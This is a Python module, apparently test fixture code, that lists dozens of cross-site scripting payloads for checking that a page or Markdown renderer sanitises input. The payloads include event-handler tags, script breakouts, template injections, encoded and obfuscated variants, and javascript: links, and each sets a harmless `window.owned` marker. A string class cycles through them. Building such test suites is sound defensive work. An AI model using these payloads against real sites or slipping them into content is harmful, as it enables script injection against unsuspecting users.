"""Texts that set `window.owned` where a page takes them for markup, each in its own way."""

from __future__ import annotations

import itertools
from collections.abc import Iterator

OWN = "window.owned=1"
EVENTS = (
    "<img src=x onerror={}>", "<img src=x onerror='{}'", "<IMG SRC=x OnErRoR={}>", "<img/src=x/onerror={}>",
    "<img\nsrc=x\nonerror\n=\n{}>", "<img src=x:x onerror\t={}>", "<svg onload={}>", "<svg/onload={}>",
    "<svg><script>{}</script></svg>", "<svg><animate onbegin={} attributeName=x dur=1s>", "<svg><set onbegin={}>",
    "<svg><image href=x onerror={} /></svg>", "<svg><foreignObject><img src=x onerror={}></foreignObject></svg>",
    "<math><mtext><img src=x onerror={}></mtext></math>", "<body onload={}>", "<video src=x onerror={}>",
    "<video><source src=x onerror={}></video>", "<audio src=x onerror={}>", "<object data=x onerror={}>",
    "<embed src=x onerror={}>", "<input autofocus onfocus={}>", "<select autofocus onfocus={}>",
    "<textarea autofocus onfocus={}>", "<details open ontoggle={}>x</details>", "<marquee onstart={}>x</marquee>",
    "<style onload={}>*{ }</style>", "<link rel=stylesheet href=x onerror={}>", "<iframe onload={}>",
    '<iframe srcdoc="<img src=x onerror=parent.{}>">', "<div style='animation:x' onanimationstart={}>",
    "<script>{}</script>", "<script>{}//", "<script src='data:text/javascript,{}'></script>",
    "<scr<script>ipt>{}</scr</script>ipt>", "<script type=module>{}</script>", "</script><script>{}</script>",
    "</textarea><img src=x onerror={}>", "</title><img src=x onerror={}>", "</style><img src=x onerror={}>",
    "</template><img src=x onerror={}>", "</noscript><img src=x onerror={}>", "--><img src=x onerror={}><!--",
    "]]><img src=x onerror={}>", "<![CDATA[<img src=x onerror={}>]]>", "<!--><img src=x onerror={}>-->",
    '"><img src=x onerror={}>', "'><img src=x onerror={}>", '" onmouseover="{}" x="', "` onfocus={} autofocus `",
    '"};{};//', "');{};//", "</script\n><svg onload={}>", "{{constructor.constructor('{}')()}}", "${{}}",
    "<% {} %>", "{% {} %}", "&lt;img src=x onerror={}&gt;", "&#60;img src=x onerror={}&#62;",
    "\\u003cimg src=x onerror={}\\u003e", "\\x3cscript>{}\\x3c/script>", "<img src=x onerror=&#119;indow.owned=1>",
    "＜img src=x onerror={}＞", "<\x00img src=x onerror={}>", "<img src=x onerror=\u2028{}>", 
    "\u202e<img src=x onerror={}>",
)  # fmt: skip
LINKS = (
    "[x](javascript:{})", "[x](JaVaScRiPt:{})", "[x](java\tscript:{})", "[x]( javascript:{})",
    "[x](&#106;avascript:{})",
    "[x](data:text/html,<script>{}</script>)", "[x](vbscript:{})", "![x](javascript:{})", "![x](x\" onerror=\"{})",
    "<javascript:{}>", "[x]: javascript:{}\n\n[x]", "<a href=javascript:{}>x</a>",
    "<form action=javascript:{}><button>",
    "<base href=javascript:{}//>", "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "$\\href{javascript:{}}{x}$", "$$\\url{javascript:{}}$$", ":material/x: <img src=x onerror={}>",
    "`<img src=x onerror={}>`", "```\n</code></pre><img src=x onerror={}>\n```",
)  # fmt: skip
PAYLOADS = tuple(text.replace("{}", OWN) for text in (*EVENTS, *LINKS))


class InTurn(str):
    """A text that is another payload each time it is formatted into one, the first again after the last."""

    _next: Iterator[str]

    def __new__(cls) -> InTurn:
        made = super().__new__(cls, PAYLOADS[0])
        made._next = itertools.cycle(PAYLOADS)
        return made

    def __format__(self, _: str) -> str:
        return next(self._next)
